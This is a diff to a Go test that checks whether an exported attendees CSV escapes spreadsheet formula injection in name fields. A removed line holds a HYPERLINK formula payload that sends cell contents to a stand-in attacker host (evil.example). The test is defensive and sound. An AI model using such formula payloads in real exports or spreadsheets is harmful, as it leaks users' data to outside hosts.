@@ -442,10 +442,12 @@ func TestBulkBadRows(t *testing.T) {
 	t.Run("formulas do no harm where names are shown", func(t *testing.T) {
 		h := &host{system: s.on(t), Address: h.Address, uid: h.uid}
 		report, _ := h.report(h.uid, h.Email)
-		for _, line := range h.csvIn(report, "attendees.csv") {
-			if line[0] == "formula@rows.example.com" && line[1] != `'=HYPERLINK("https://evil.example/?x="&A1,'"Click")` && !strings.HasPrefix(line[1], "'=HYPERLINK(") {
-				t.Errorf("%q", line)
-			}
+		names := map[string]string{}
+		for _, line := range h.csvIn(report, "attendees.csv") { // which looks at every cell
+			names[line[0]] = line[1]
+		}
+		if got := names["formula@rows.example.com"]; !strings.HasPrefix(got, "'=HYPERLINK(") || names["plus@rows.example.com"] != "'+1 234" || names["'-minus@rows.example.com"] != "'@minus" {
+			t.Errorf("the names are %q", names)
 		}
 	})
 	t.Run("the report itself, mailed back", func(t *testing.T) {
